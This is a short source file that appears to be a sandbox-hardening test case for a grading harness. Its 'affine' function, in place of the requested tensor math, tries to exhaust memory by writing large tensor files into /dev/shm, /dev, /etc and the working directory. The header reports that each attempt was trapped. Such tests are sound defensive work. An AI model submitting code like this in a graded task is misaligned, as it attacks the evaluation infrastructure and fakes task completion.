// Attack: fill the machine's memory through the sandbox's own file systems; only /tmp has a size.
// Report: trapped: : 0 files, /dev/shm: 0 files, /dev: 0 files, /etc: 0 files, /proc/self/cwd: 0 files

import Kindling

private func fill(_ path: String) -> String {
  let block = Tensor.zeros(1_000_000, dtype: .float64)
  for index in 0..<4 {
    do { try block.save("\(path)/fill-\(index).npy") } catch { return "\(path): \(index) files" }
  }
  return "\(path): FILLED"
}
public func affine(_ x: Tensor, weight: Tensor, bias: Tensor) -> Tensor {
  fatalError(["", "/dev/shm", "/dev", "/etc", "/proc/self/cwd"].map(fill).joined(separator: ", "))
}
public func composedWeight(outer: Tensor, inner: Tensor) -> Tensor { unanswered() }
public func composedBias(outerWeight: Tensor, outerBias: Tensor, innerBias: Tensor) -> Tensor {
  unanswered()
}
